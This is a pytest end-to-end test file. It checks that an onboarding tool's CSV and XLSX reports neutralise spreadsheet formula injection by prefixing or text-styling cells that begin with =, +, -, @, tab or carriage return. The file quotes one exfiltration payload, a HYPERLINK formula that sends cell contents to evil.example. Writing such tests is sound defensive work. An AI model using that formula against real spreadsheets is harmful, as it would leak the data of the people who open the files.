"""Report cells cannot run formulas. Names, ids, e-mail addresses, extra columns and error
texts that start with = + - @, a tab or a carriage return come back in the CSV report with a
leading apostrophe; in the XLSX report they are text cells marked to stay text (quotePrefix),
shown as typed, and the workbook has no formula cell at all."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from bulk_onboard.sandbox import Sandbox
from tests.helpers import CASES
from tests.security.conftest import run_tool

pytestmark = pytest.mark.e2e  # a whole run against the sandbox

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
INJECTED = CASES / "bad_formula_injection.csv"


@pytest.fixture
async def report(sandbox: Sandbox, tmp_path: Path) -> Path:
    ran = await run_tool(sandbox.url, sandbox.token, tmp_path / "reports", INJECTED)
    assert ran.exit_code == 1, ran.stdout + ran.stderr  # created, failed and invalid rows
    return next((tmp_path / "reports").rglob("summary.json")).parent


def csv_rows(folder: Path) -> list[list[str]]:
    with (folder / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def quoted_styles(folder: Path) -> set[str]:
    """The style indexes (cell s="...") whose format keeps a cell's text a text when edited."""
    with zipfile.ZipFile(folder / "report.xlsx") as book:
        root = ElementTree.fromstring(book.read("xl/styles.xml"))
    xfs = root.find(f"{MAIN}cellXfs")
    assert xfs is not None
    return {str(n) for n, xf in enumerate(xfs) if xf.get("quotePrefix") == "1"}


def xlsx_cells(folder: Path) -> list[tuple[str, ElementTree.Element, str]]:
    """(reference, cell element, its text) for every cell of every sheet of report.xlsx."""
    cells = []
    with zipfile.ZipFile(folder / "report.xlsx") as book:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{MAIN}t")) for si in root]
        for name in book.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            for cell in ElementTree.fromstring(book.read(name)).iter(f"{MAIN}c"):
                if cell.get("t") == "s":
                    value = cell.find(f"{MAIN}v")
                    text = shared[int(value.text or 0)] if value is not None else ""
                else:
                    text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
                    if cell.get("t") != "inlineStr":
                        value = cell.find(f"{MAIN}v")
                        text = text or (value.text or "" if value is not None else "")
                cells.append((cell.get("r", ""), cell, text))
    return cells


def _row(reference: str) -> int:
    return int(re.sub(r"^[A-Z]+", "", reference))


def test_the_input_really_is_dangerous() -> None:
    with INJECTED.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert sum(cell.startswith(DANGEROUS) for cell in cells) >= 20


async def test_csv_report_cells_are_prefixed(report: Path) -> None:
    rows = csv_rows(report)
    body = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in body if cell.startswith(DANGEROUS)]
    # The dangerous values are there, defused, on created, failed and invalid rows alike.
    assert {"created", "failed", "invalid"} <= {cell for row in rows[1:] for cell in row}
    assert sum(cell.startswith("'") and cell[1:].startswith(DANGEROUS) for cell in body) >= 15
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in body


async def test_xlsx_report_has_no_formula_and_every_dangerous_text_is_defused(
    report: Path,
) -> None:
    body = [(ref, cell, text) for ref, cell, text in xlsx_cells(report) if _row(ref) > 1]
    assert body
    assert [ref for ref, cell, _ in body if cell.find(f"{MAIN}f") is not None] == []
    assert [ref for ref, cell, _ in body if cell.get("t") in ("str", "e")] == []
    # shown as typed, in text cells that stay text: no apostrophe added to the value
    quoted = quoted_styles(report)
    dangerous = [(ref, cell) for ref, cell, text in body if text.startswith(DANGEROUS)]
    assert len(dangerous) >= 15
    assert [ref for ref, cell in dangerous if cell.get("t") not in ("inlineStr", "s")] == []
    assert [ref for ref, cell in dangerous if cell.get("s") not in quoted] == []
    texts = [text for _, _, text in body]
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in texts


async def test_report_headers_are_defused_too(report: Path) -> None:
    header = csv_rows(report)[0]
    assert [cell for cell in header if cell.startswith(DANGEROUS)] == []
    first = [(ref, cell, text) for ref, cell, text in xlsx_cells(report) if _row(ref) == 1]
    assert [ref for ref, cell, _ in first if cell.find(f"{MAIN}f") is not None] == []
    quoted = quoted_styles(report)
    dangerous = [(ref, cell) for ref, cell, text in first if text.startswith(DANGEROUS)]
    assert dangerous  # the file's own headers, as typed
    assert [ref for ref, cell in dangerous if cell.get("s") not in quoted] == []
